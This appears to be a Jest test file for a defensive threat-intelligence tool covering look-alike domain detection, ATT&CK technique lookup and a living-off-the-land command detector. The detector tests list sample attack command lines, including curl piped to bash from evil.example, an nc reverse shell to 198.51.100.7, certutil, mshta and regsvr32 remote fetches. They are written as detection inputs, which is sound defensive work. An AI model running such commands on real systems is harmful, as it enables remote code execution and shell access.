import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import type { IndicatorType } from '../../analysis/ioc/types.js';
import { attackFacts } from './attack.js';
import { TACTICS, TECHNIQUES } from './attack-techniques.js';
import { contextOf } from './context.js';
import { livingOffTheLand, livingOffText } from './living-off-the-land.js';
import { distanceOf, lookAlike, skeletonOf } from './look-alike.js';

const NOW = '2026-02-01T00:00:00Z';
const OWN = ['contoso.com', 'bank.co.uk', 'ibm.com', 'larkfield-hospital.example'];

describe('look-alikes', () => {
  it.each<readonly [domain: string, wanted: string | undefined]>([
    ['contoso.com', 'same contoso.com'], ['mail.contoso.com', 'same contoso.com'], ['CONTOSO.COM.', 'same contoso.com'], ['notcontoso.com', undefined],
    ['contos0.com', 'homoglyphs contoso.com'], ['c0nt0s0.net', 'homoglyphs contoso.com'], ['соntоsо.com', 'homoglyphs contoso.com'], ['xn--ntos-4ced93f.com', undefined],
    ['xn--contso-r4a.com', undefined], ['cöntösö.com', 'homoglyphs contoso.com'], ['contoso.net', 'ending contoso.com'], ['contoso.co', 'ending contoso.com'],
    ['contosso.com', 'spelling contoso.com'], ['cnotoso.com', 'spelling contoso.com'], ['contaso.org', 'spelling contoso.com'], ['contsoo.io', 'spelling contoso.com'],
    ['cantaso.com', undefined], ['contoso.com.evil.net', 'prefix contoso.com'], ['login.contoso.com.evil.net', 'prefix contoso.com'], ['contoso-login.com', 'inside contoso.com'],
    ['secure-contos0.net', 'inside contoso.com'], ['contosologin.com', undefined], ['bank.com', 'ending bank.co.uk'], ['bnak.com', undefined], ['ibm.net', undefined], ['1bm.com', 'homoglyphs ibm.com'], ['ibn.com', undefined],
    ['larkfield-hospita1.example', 'homoglyphs larkfield-hospital.example'], ['larkfeild-hospitals.net', 'spelling larkfield-hospital.example'], ['example.org', undefined], ['com', undefined], ['', undefined], ['-', undefined],
  ])('%s', (domain, wanted) => {
    const like = lookAlike(domain, OWN);
    expect(like === undefined ? undefined : `${like.kind} ${like.own}`).toBe(wanted);
  });

  it('reads punycode as people see it', () => {
    const domain = new URL('http://соntoso.com').hostname; // the first letters are Cyrillic
    expect(domain).toMatch(/^xn--/);
    expect(lookAlike(domain, OWN)).toMatchObject({ kind: 'homoglyphs', own: 'contoso.com' });
  });

  it.each<readonly [string, string, number]>([['', '', 0], ['', 'abc', 3], ['abc', 'abc', 0], ['kitten', 'sitting', 3], ['ab', 'ba', 1], ['ca', 'abc', 3], ['contoso', 'cnotoso', 1]])('distance of %j and %j', (a, b, wanted) => {
    expect([distanceOf(a, b), distanceOf(b, a)]).toEqual([wanted, wanted]);
  });

  it('has a skeleton that is its own skeleton, and bounded work', () => {
    fc.assert(fc.property(fc.string({ maxLength: 70, unit: 'binary' }), (name) => {
      lookAlike(`${name}.com`, OWN);
      expect(distanceOf(name, name)).toBe(0);
    }), { numRuns: 300 });
    expect(skeletonOf('rnicrosoft')).toBe(skeletonOf('microsoft'));
    lookAlike('a.'.repeat(100_000), OWN);
  });
});

describe('context of an observable', () => {
  const said = (type: IndicatorType, value: string) => contextOf({ type, value }, { ownDomains: OWN, now: NOW }).map(({ provider, opinion = '-', details }) => `${provider} ${opinion} ${details}`);
  it.each<readonly [type: IndicatorType, value: string, wanted: readonly string[]]>([
    ['domain', 'a.b.evil.co.uk', ['public-suffix - registered domain evil.co.uk, ending co.uk; host a.b']],
    ['domain', 'evil.github.io', ['public-suffix - registered domain evil.github.io, ending github.io; an ending where anyone can register']],
    ['domain', 'co.uk', ['public-suffix - an ending, not a registered domain']],
    ['domain', 'xn--bcher-kva.de', ['public-suffix - registered domain xn--bcher-kva.de, ending de; reads bücher.de']],
    ['domain', 'evil.example', ['public-suffix - registered domain evil.example, ending example; an ending that is not in the public suffix list']],
    ['domain', 'mail.contoso.com', ['look-alike - below the organisation’s own domain contoso.com', 'public-suffix - registered domain contoso.com, ending com; host mail']],
    ['email', 'ana@contos0.com', ['look-alike suspicious letters that look like those of contoso.com']],
    ['url', 'https://contosso.com/login', ['look-alike suspicious one letter differs from contoso.com']],
    ['url', 'https://198.51.100.7/', []], ['url', 'http://[2001:db8::1]/', []], ['url', 'no url', []],
    ['md5', 'd41d8cd98f00b204e9800998ecf8427e', ['hash-form benign the hash of empty content']],
    ['sha256', 'a'.repeat(64), ['hash-form - SHA-256 by its length']],
    ['attack', 'T1059.001', ['attack - Command and Scripting Interpreter: PowerShell (Execution)']], ['attack', 'TA0040', ['attack - Impact (Impact)']], ['attack', 'T9999', []],
    ['ipv4', '198.51.100.7', []], ['guid', 'x', []],
  ])('%s %s', (type, value, wanted) => {
    expect(said(type, value)).toEqual(wanted);
  });
});

describe('ATT&CK', () => {
  it('has each technique once, with tactics and a page', () => {
    const lines = TECHNIQUES.trim().split('\n');
    // Counts of ATT&CK v18: https://attack.mitre.org/resources/updates/updates-october-2025/
    expect([lines.length, lines.reduce((sum, line) => sum + line.split(';').length - 1, 0)]).toEqual([216, 475]);
    const ids = lines.map((line) => line.slice(0, 5));
    expect(new Set(ids).size).toBe(ids.length);
    for (const id of ids) {
      expect(attackFacts(id)?.tactics.length).toBeGreaterThan(0);
      expect(attackFacts(id)?.url).toBe(`https://attack.mitre.org/techniques/${id}/`);
    }
    expect(Object.values(TACTICS).map(([id]) => attackFacts(id)?.id)).toEqual(Object.values(TACTICS).map(([id]) => id));
    expect(attackFacts('t1003.008')).toEqual({ id: 'T1003.008', name: 'OS Credential Dumping: /etc/passwd and /etc/shadow', tactics: ['Credential Access'], url: 'https://attack.mitre.org/techniques/T1003/008/' });
  });

  // As the kill_chain_phases of ATT&CK v18.0 have it, in the columns of the matrix; a technique of two tactics counts in both.
  it('has as many techniques in each tactic as the matrix', () => {
    const codes = TECHNIQUES.trim().split('\n').flatMap((line) => line.slice(6, line.indexOf(' ', 6)).split(','));
    const counts = new Map<string, number>();
    for (const code of codes) counts.set(code, (counts.get(code) ?? 0) + 1);
    expect(Object.fromEntries(counts)).toEqual({ RC: 11, RD: 8, IA: 11, EX: 17, PS: 23, PE: 14, DE: 47, CA: 17, DI: 34, LM: 9, CO: 17, CC: 18, XF: 9, IM: 15 });
  });

  it('knows which techniques serve several tactics', () => {
    const several = TECHNIQUES.trim().split('\n').flatMap((line) => /^T\d{4} [A-Z]{2},[A-Z,]+/.exec(line) ?? []);
    expect(several).toEqual([
      'T1037 PS,PE', 'T1040 CA,DI', 'T1053 EX,PS,PE', 'T1055 PE,DE', 'T1056 CA,CO', 'T1072 EX,LM', 'T1078 IA,PS,PE,DE', 'T1091 IA,LM', 'T1098 PS,PE', 'T1112 PS,DE',
      'T1133 IA,PS', 'T1134 PE,DE', 'T1197 PS,DE', 'T1205 PS,DE,CC', 'T1484 PE,DE', 'T1497 DE,DI', 'T1542 PS,DE', 'T1543 PS,PE', 'T1546 PS,PE', 'T1547 PS,PE',
      'T1548 PE,DE', 'T1550 DE,LM', 'T1556 PS,DE,CA', 'T1557 CA,CO', 'T1574 PS,PE,DE', 'T1610 EX,DE', 'T1622 DE,DI', 'T1659 IA,CC',
    ]);
    expect(attackFacts('T1574.001')?.tactics).toEqual(['Persistence', 'Privilege Escalation', 'Defense Evasion']);
  });

  it('reads every line', () => {
    const bad = TECHNIQUES.trim().split('\n').filter((line) => !/^T\d{4} [A-Z]{2}(?:,[A-Z]{2})* [^;]+(?:;\d{3} [^;]+)*$/.test(line));
    expect(bad).toEqual([]);
    for (const line of TECHNIQUES.trim().split('\n')) {
      const id = line.slice(0, 5);
      const numbers = [...line.matchAll(/;(\d{3}) /g)].map(([, number = '']) => number);
      expect(numbers).toEqual([...new Set(numbers)].sort());
      for (const number of numbers) expect(attackFacts(`${id}.${number}`)?.url).toBe(`https://attack.mitre.org/techniques/${id}/${number}/`);
    }
  });
});

describe('living off the land', () => {
  it.each<readonly [commandLine: string, wanted: readonly string[]]>([
    ['certutil -urlcache -f http://evil.example/a a.exe', ['certutil.exe']], ['C:\\Windows\\System32\\CertUtil.exe -decode a b', ['certutil.exe']],
    ['"C:\\Program Files\\x\\rundll32.exe" a.dll,#1', ['rundll32.exe']], ['cmd /c "mshta http://evil.example"', ['cmd.exe', 'mshta.exe']], ['cmd.exe /c bitsadmin /transfer x', ['cmd.exe', 'bitsadmin.exe']],
    ['c^md.exe /c who^ami', ['cmd.exe', 'whoami.exe']], ['powershell -enc AAAA | findstr x', ['powershell.exe', 'findstr.exe']],
    ['curl -s http://evil.example/x | bash', ['curl', 'bash']], ['sudo awk \'BEGIN {system("/bin/sh")}\'', ['awk', 'sh']], ['/usr/bin/python3 -c "import os"', ['python3']], ['a; nc -e /bin/sh 198.51.100.7 4444', ['nc']],
    ['echo $(wget -qO- evil.example)', ['wget']],
    ['please find the report at home', []], ['the cat sat at the control panel', []], ['notepad.exe a.txt', []], ['', []], ['update: the net result', []],
  ])('%s', (commandLine, wanted) => {
    expect(livingOffTheLand(commandLine).map(({ program }) => program)).toEqual(wanted);
  });

  it('names the techniques, and is bounded', () => {
    expect(livingOffTheLand('regsvr32 /s /i:http://evil.example/a.sct scrobj.dll').map(livingOffText)).toEqual(['regsvr32.exe: T1218.010 System Binary Proxy Execution: Regsvr32']);
    expect(livingOffTheLand('certutil.exe | cmd.exe | mshta.exe | '.repeat(100_000))).toHaveLength(3);
    for (const part of ['|', '"', 'a'.repeat(5_000), 'sudo ', '/c ', '\\', '^']) livingOffTheLand(part.repeat(Math.ceil(2_000_000 / part.length)));
    for (const program of ['wmic', 'reg', 'sc', 'schtasks', 'at', 'wsl', 'netsh', 'forfiles', 'esentutl']) {
      const techniques = livingOffTheLand(`${program}.exe`).flatMap((one) => one.techniques);
      expect(techniques).not.toEqual([]);
      for (const id of techniques) expect(attackFacts(id)).toBeDefined();
    }
  });
});
